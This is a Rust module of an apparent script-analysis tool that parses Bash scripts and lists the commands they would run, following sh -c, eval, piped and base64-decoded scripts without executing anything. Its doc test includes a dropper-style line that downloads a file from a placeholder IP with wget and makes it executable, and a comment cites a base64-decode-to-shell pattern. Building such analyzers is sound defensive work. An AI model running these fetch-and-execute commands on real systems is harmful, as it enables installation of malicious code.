//! script → the commands it would run, parsed with Bash's grammar. Deliberately absent: running anything, and
//! guessing what a command would print: a value that is not written in the script stays unknown.

mod flow;
mod words;

use std::borrow::Cow;
use std::cell::Cell;
use std::collections::BTreeMap;
use std::ops::ControlFlow;

use tree_sitter::{Node, ParseOptions, Parser, Point, Tree};

/// What is read of a script; the rest is cut at a line.
pub const MAX_SCRIPT: usize = 64 << 10;
pub const MAX_COMMANDS: usize = 4096;
/// Scripts within scripts (`sh -c`, `eval`, decoded base64) are followed this deep.
pub const MAX_DEPTH: usize = 8;
/// All commands' text together.
const MAX_TEXT: usize = 4 << 20;
/// Deeper nesting of the grammar's own (parentheses, loops) is left out.
const MAX_LEVEL: usize = 96;
/// Looks at the tree, loops included.
const MAX_STEPS: usize = 200_000;
/// Values of a loop that are tried.
const MAX_LOOP: usize = 64;

/// A simple command that the script would run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    /// The command that would run it: `sh -c '…'`, `eval`, or the one it is a `$(…)` of.
    pub parent: Option<usize>,
    /// Its words, without quotes, joined by a space, as a process list would show it.
    pub text: String,
    pub argv0: String,
    /// Where it stands in the script; for what was decoded, where the text that it was decoded from stands.
    pub offset: usize,
    pub background: bool,
}

impl Command {
    /// Run by the shell itself: no process of its own would show.
    pub fn is_builtin(&self) -> bool {
        matches!(
            self.argv0.as_str(),
            "cd" | "echo"
                | "printf"
                | "read"
                | "eval"
                | "exec"
                | "exit"
                | "return"
                | "set"
                | "shift"
                | "unset"
                | "export"
                | "local"
                | "declare"
                | "alias"
                | "unalias"
                | "trap"
                | "umask"
                | "ulimit"
                | "wait"
                | "test"
                | "["
                | ":"
                | "true"
                | "false"
                | "type"
                | "hash"
                | "history"
                | "source"
                | "."
                | "break"
                | "continue"
                | "jobs"
                | "fg"
                | "bg"
                | "disown"
                | "pwd"
                | "let"
                | "getopts"
                | "command"
                | "builtin"
                | "shopt"
        )
    }
}

/// The commands in the order in which they stand, both branches of a condition, loops over literal lists unrolled.
///
/// Broken scripts give what could be read. Bounded by `MAX_SCRIPT`, `MAX_COMMANDS` and `MAX_DEPTH`.
///
/// ```
/// # use ringleader_pipeline::shell::would_run;
/// let commands = would_run("wget -O /tmp/a http://192.0.2.1/a; sh -c 'chmod +x /tmp/a' &");
/// assert_eq!(commands[2].text, "chmod +x /tmp/a");
/// assert_eq!(commands[2].parent, Some(1));
/// ```
pub fn would_run(script: &str) -> Vec<Command> {
    let mut reader = Reader::default();
    reader.script(cut(script), None, None, 0, 0);
    reader.commands
}

/// At most `MAX_SCRIPT` bytes, ending with a line where there is one.
fn cut(script: &str) -> &str {
    if script.len() <= MAX_SCRIPT {
        return script;
    }
    let head = &script[..script.floor_char_boundary(MAX_SCRIPT)];
    head.rfind('\n').map_or(head, |end| &head[..=end])
}

#[derive(Default)]
struct Reader {
    commands: Vec<Command>,
    text_len: usize,
    steps: usize,
    /// Of `MAX_PARSE`.
    parse_calls: usize,
    variables: BTreeMap<String, String>,
    functions: BTreeMap<String, ()>,
    /// What the script itself writes into files.
    files: BTreeMap<String, String>,
}

/// Where a node stands.
#[derive(Clone, Copy)]
struct Place<'s> {
    source: &'s str,
    parent: Option<usize>,
    /// Of the text that this script was decoded from.
    base: Option<usize>,
    background: bool,
    depth: usize,
    level: usize,
}

impl<'s> Place<'s> {
    fn under(self, parent: Option<usize>) -> Self {
        Self { parent, ..self }
    }
}

impl Reader {
    fn script(&mut self, source: &str, parent: Option<usize>, base: Option<usize>, depth: usize, level: usize) {
        if depth > MAX_DEPTH || level > MAX_LEVEL {
            return;
        }
        let source = tamed(cut(source));
        let source = source.as_ref();
        let place = Place { source, parent, base, background: false, depth, level };
        let share = MAX_PARSE.saturating_sub(self.parse_calls) / 2;
        if let Some(tree) = parse(source, share, &mut self.parse_calls) {
            return self.visit(tree.root_node(), place);
        }
        // The grammar lost itself; line by line it cannot.
        let mut at = 0;
        for line in source.split_inclusive('\n') {
            let share = MAX_PARSE.saturating_sub(self.parse_calls) / 8;
            if self.is_full() || share == 0 {
                return;
            }
            if let Some(tree) = parse(line, share, &mut self.parse_calls) {
                let base = base.or(Some(at));
                self.visit(tree.root_node(), Place { source: line, base, ..place });
            }
            at += line.len();
        }
    }

    fn is_full(&self) -> bool {
        self.commands.len() >= MAX_COMMANDS || self.text_len >= MAX_TEXT || self.steps >= MAX_STEPS
    }

    fn visit(&mut self, node: Node<'_>, place: Place<'_>) {
        self.steps += 1;
        if self.is_full() || place.level > MAX_LEVEL {
            return;
        }
        let place = Place { level: place.level + 1, ..place };
        match node.kind() {
            "command" => {
                self.command(node, place);
            }
            "list" => self.list(node, place),
            "pipeline" => self.pipeline(node, place, None),
            "redirected_statement" => self.redirected(node, place, None),
            "for_statement" => self.for_loop(node, place),
            "function_definition" => self.function(node, place),
            "variable_assignment" => {
                self.assign(node, place);
                self.substitutions(node, place);
            }
            "heredoc_body" | "comment" => self.substitutions(node, place),
            "ERROR" => {
                self.salvage(node, place);
                self.children(node, place);
            }
            _ => self.children(node, place),
        }
    }

    fn children(&mut self, node: Node<'_>, place: Place<'_>) {
        let mut cursor = node.walk();
        let nodes: Vec<Node<'_>> = node.children(&mut cursor).collect();
        let mut before = self.commands.len();
        for (at, child) in nodes.iter().enumerate() {
            if child.is_error() && place.source[child.byte_range()].starts_with(['"', '\'']) {
                let command = at.checked_sub(1).map(|at| nodes[at]).filter(|it| it.kind() == "command");
                self.unterminated(*child, command, before, place);
                continue;
            }
            before = self.commands.len();
            let followed = nodes.get(at + 1).is_some_and(|next| next.kind() == "&");
            if child.is_named() {
                self.visit(*child, Place { background: place.background || followed, ..place });
            }
        }
    }

    /// A quote that nothing closes hides the rest of the script: read it without.
    fn unterminated(&mut self, error: Node<'_>, command: Option<Node<'_>>, before: usize, place: Place<'_>) {
        let quote = error.start_byte();
        let start = match command {
            Some(command) => {
                self.commands.truncate(before);
                command.start_byte()
            }
            None => quote,
        };
        let text = format!("{}{}", &place.source[start..quote], &place.source[quote + 1..error.end_byte()]);
        self.script(&text, place.parent, place.base.or(Some(start)), place.depth + 1, place.level);
    }

    /// `a && b || c …` hangs to the left: a long one would be as deep as it is long.
    fn list(&mut self, node: Node<'_>, place: Place<'_>) {
        let mut parts = Vec::new();
        let mut left = node;
        while left.kind() == "list" {
            let mut cursor = left.walk();
            let mut nodes: Vec<Node<'_>> = left.named_children(&mut cursor).collect();
            nodes.reverse();
            let Some(first) = nodes.pop() else { break };
            parts.extend(nodes);
            left = first;
            self.steps += 1;
        }
        self.visit(left, place);
        for part in parts.into_iter().rev() {
            self.visit(part, place);
        }
    }

    /// What a stage prints is known where it is written: `echo x | base64 -d | sh`.
    fn pipeline(&mut self, node: Node<'_>, place: Place<'_>, first: Option<String>) {
        let mut cursor = node.walk();
        let stages: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        let mut input = first;
        for stage in stages {
            let output = self.output(stage, place.source, input.as_deref());
            match stage.kind() {
                "command" => {
                    if let Some(at) = self.command(stage, place) {
                        self.fed(at, input, place);
                    }
                }
                "redirected_statement" => self.redirected(stage, place, input),
                _ => self.visit(stage, place),
            }
            input = output;
        }
    }

    /// A shell that reads its script from standard input runs it.
    fn fed(&mut self, shell: usize, input: Option<String>, place: Place<'_>) {
        let Some(input) = input else { return };
        let command = &self.commands[shell];
        if words::reads_stdin(&command.text) {
            let base = Some(command.offset);
            self.script(&input, Some(shell), base, place.depth + 1, place.level);
        }
    }

    fn redirected(&mut self, node: Node<'_>, place: Place<'_>, input: Option<String>) {
        let output = self.output(node, place.source, input.as_deref());
        let mut body = None;
        let mut heredoc = None;
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            match child.kind() {
                "file_redirect" => {
                    self.substitutions(child, place);
                    if let (Some(text), Some((path, appends))) = (&output, self.target(child, place.source)) {
                        self.write(path, text, appends);
                    }
                }
                "heredoc_redirect" => {
                    heredoc = Some(child);
                }
                "herestring_redirect" => self.substitutions(child, place),
                "&" => {}
                _ if child.is_named() && body.is_none() => {
                    let at = match child.kind() {
                        "command" => self.command(child, place),
                        _ => {
                            self.visit(child, place);
                            None
                        }
                    };
                    body = Some(at);
                }
                _ => {}
            }
        }
        let given = self.given(node, place.source).or(input);
        if let Some(Some(at)) = body {
            self.fed(at, given, place);
        }
        if let Some(heredoc) = heredoc {
            self.after_heredoc(heredoc, place, output);
        }
    }

    /// The grammar puts what follows `<<EOF` in its line below the here-document.
    fn after_heredoc(&mut self, heredoc: Node<'_>, place: Place<'_>, output: Option<String>) {
        let mut cursor = heredoc.walk();
        let nodes: Vec<Node<'_>> = heredoc.named_children(&mut cursor).collect();
        for child in nodes {
            match child.kind() {
                "pipeline" => self.pipeline(child, place, output.clone()),
                "file_redirect" => {
                    if let (Some(text), Some((path, appends))) = (&output, self.target(child, place.source)) {
                        self.write(path, text, appends);
                    }
                }
                "heredoc_start" | "heredoc_end" => {}
                _ => self.visit(child, place),
            }
        }
    }

    /// The file that a redirection writes, and whether it appends.
    fn target(&self, redirect: Node<'_>, source: &str) -> Option<(String, bool)> {
        let operator = redirect.children(&mut redirect.walk()).find(|it| matches!(it.kind(), ">" | ">>"))?;
        let path = self.literal(redirect.child_by_field_name("destination")?, source)?;
        Some((path, operator.kind() == ">>"))
    }

    fn write(&mut self, path: String, text: &str, appends: bool) {
        let held: usize = self.files.values().map(String::len).sum();
        if held + text.len() > MAX_SCRIPT || self.files.len() >= 64 {
            return;
        }
        let file = self.files.entry(path).or_default();
        if !appends {
            file.clear();
        }
        file.push_str(text);
        if !file.ends_with('\n') {
            file.push('\n');
        }
    }

    fn for_loop(&mut self, node: Node<'_>, place: Place<'_>) {
        let name = node.child_by_field_name("variable").map(|it| place.source[it.byte_range()].to_owned());
        let mut cursor = node.walk();
        let values: Vec<Node<'_>> = node.children_by_field_name("value", &mut cursor).collect();
        let literals: Option<Vec<String>> = values.iter().map(|it| self.literal(*it, place.source)).collect();
        for value in &values {
            self.substitutions(*value, place);
        }
        let Some(body) = node.child_by_field_name("body") else { return self.children(node, place) };
        match (name, literals) {
            (Some(name), Some(literals)) if !literals.is_empty() => {
                for value in literals.iter().flat_map(|it| it.split_ascii_whitespace()).take(MAX_LOOP) {
                    self.variables.insert(name.clone(), value.to_owned());
                    self.visit(body, place);
                    if self.is_full() {
                        break;
                    }
                }
                self.variables.remove(&name);
            }
            _ => self.visit(body, place),
        }
    }

    /// The body runs where the function is called; it is read once, where it stands, and calls are no commands.
    fn function(&mut self, node: Node<'_>, place: Place<'_>) {
        if let Some(name) = node.child_by_field_name("name") {
            self.functions.insert(place.source[name.byte_range()].to_owned(), ());
        }
        if let Some(body) = node.child_by_field_name("body") {
            self.visit(body, place);
        }
    }

    fn assign(&mut self, node: Node<'_>, place: Place<'_>) {
        let Some(name) = node.child_by_field_name("name").map(|it| place.source[it.byte_range()].to_owned()) else {
            return;
        };
        let value = match node.child_by_field_name("value") {
            Some(value) => self.literal(value, place.source),
            None => Some(String::new()),
        };
        match value {
            Some(value) if value.len() <= MAX_VALUE && self.variables.len() < 1024 => {
                self.variables.insert(name, value);
            }
            _ => {
                self.variables.remove(&name);
            }
        }
    }

    /// Visits every `$(…)`, backquote and `<(…)` below a node.
    fn substitutions(&mut self, node: Node<'_>, place: Place<'_>) {
        let mut open = vec![node];
        while let Some(node) = open.pop() {
            self.steps += 1;
            if self.is_full() {
                return;
            }
            if matches!(node.kind(), "command_substitution" | "process_substitution") {
                self.children(node, Place { level: place.level + 1, background: false, ..place });
                continue;
            }
            let mut cursor = node.walk();
            let from = open.len();
            open.extend(node.named_children(&mut cursor));
            open[from..].reverse();
        }
    }

    /// Emits the command; gives its index unless it is a call of the script's own function.
    fn command(&mut self, node: Node<'_>, place: Place<'_>) -> Option<usize> {
        if self.is_full() || place.level > MAX_LEVEL {
            return None;
        }
        let words = self.words(node, place.source);
        let first = words.first()?;
        if self.functions.contains_key(first) {
            self.substitutions(node, place);
            return None;
        }
        let at = self.push(&words, node.start_byte(), place);
        let inner = place.under(Some(at));
        self.substitutions(node, inner);
        if let Some(script) = words::script(&words, |path| self.files.get(path).map(String::as_str)) {
            let base = Some(self.commands[at].offset);
            self.script(&script, Some(at), base, place.depth + 1, place.level);
        } else if let Some(text) = self.given(node, place.source) {
            self.fed(at, Some(text), place);
        } else if let Some(run) = words::runs(&words) {
            let run = run.to_vec();
            self.push(&run, node.start_byte(), inner);
        }
        Some(at)
    }

    fn push(&mut self, words: &[String], start: usize, place: Place<'_>) -> usize {
        let mut text = words.join(" ");
        text.truncate(text.floor_char_boundary(MAX_SCRIPT));
        self.text_len += text.len();
        self.commands.push(Command {
            parent: place.parent,
            argv0: words.first().cloned().unwrap_or_default(),
            text,
            offset: place.base.unwrap_or(start),
            background: place.background,
        });
        self.commands.len() - 1
    }

    /// Words that the grammar could make no command of: each line of them is one.
    fn salvage(&mut self, node: Node<'_>, place: Place<'_>) {
        let mut words: Vec<String> = Vec::new();
        let mut start = (0, 0);
        let mut cursor = node.walk();
        let nodes: Vec<Node<'_>> = node.children(&mut cursor).collect();
        for child in nodes {
            let is_word = matches!(
                child.kind(),
                "word"
                    | "string"
                    | "raw_string"
                    | "ansi_c_string"
                    | "concatenation"
                    | "number"
                    | "command_name"
                    | "simple_expansion"
                    | "expansion"
            );
            let row = child.start_position().row;
            if (!is_word || row != start.1) && !words.is_empty() {
                self.salvaged(&mut words, start.0, place);
            }
            if is_word {
                if words.is_empty() {
                    start = (child.start_byte(), row);
                }
                words.push(self.text_of(child, place.source));
            }
        }
        self.salvaged(&mut words, start.0, place);
    }

    fn salvaged(&mut self, words: &mut Vec<String>, start: usize, place: Place<'_>) {
        let is_name = words.first().is_some_and(|it| {
            it.len() >= 2
                && it.bytes().any(|b| b.is_ascii_alphanumeric())
                && it.bytes().all(|b| b.is_ascii_graphic())
                && !it.starts_with(['-', '$'])
        });
        if is_name && !self.is_full() {
            self.push(words, start, place);
        }
        words.clear();
    }
}

const MAX_VALUE: usize = 4096;

/// What the parser may do for one `would_run`, in reports of progress (some hundred steps each) and pieces read. A full
/// script of `MAX_SCRIPT` takes some 3,000; what takes more is not shell, or made to cost.
const MAX_PARSE: usize = 12_000;
/// Stages of one line. The grammar takes the square of their number where the last one is missing.
const MAX_STAGES: usize = 256;

/// Ends each line after `MAX_STAGES` of `|`.
fn tamed(source: &str) -> Cow<'_, str> {
    let is_long = |line: &str| line.len() > MAX_STAGES && line.bytes().filter(|b| *b == b'|').count() > MAX_STAGES;
    if !source.lines().any(is_long) {
        return Cow::Borrowed(source);
    }
    // blanks, so that offsets stay
    let mut out = String::with_capacity(source.len());
    for line in source.split_inclusive('\n') {
        match line.match_indices('|').nth(MAX_STAGES) {
            Some((at, _)) => {
                out.push_str(&line[..at]);
                out.extend(std::iter::repeat_n(' ', line[at..].trim_end_matches('\n').len()));
                out.push_str(if line.ends_with('\n') { "\n" } else { "" });
            }
            None => out.push_str(line),
        }
    }
    Cow::Owned(out)
}

fn parse(source: &str, limit: usize, calls: &mut usize) -> Option<Tree> {
    let mut parser = Parser::new();
    parser.set_language(&tree_sitter_bash::LANGUAGE.into()).ok()?;
    // The grammar's scanner may look far ahead, again and again: read in small pieces, that can be counted too.
    let spent = Cell::new(0usize);
    let mut progress = |_: &tree_sitter::ParseState| {
        spent.set(spent.get() + 1);
        if spent.get() > limit { ControlFlow::Break(()) } else { ControlFlow::Continue(()) }
    };
    let options = ParseOptions::new().progress_callback(&mut progress);
    let bytes = source.as_bytes();
    let mut read = |at: usize, _: Point| {
        spent.set(spent.get() + 1);
        let end = if spent.get() > limit { at } else { at + PIECE };
        bytes.get(at..end.min(bytes.len())).unwrap_or_default()
    };
    let tree = parser.parse_with_options(&mut read, None, Some(options));
    // starting costs as well
    *calls += spent.get() + 1;
    tree
}

const PIECE: usize = 256;

#[cfg(test)]
mod tests;
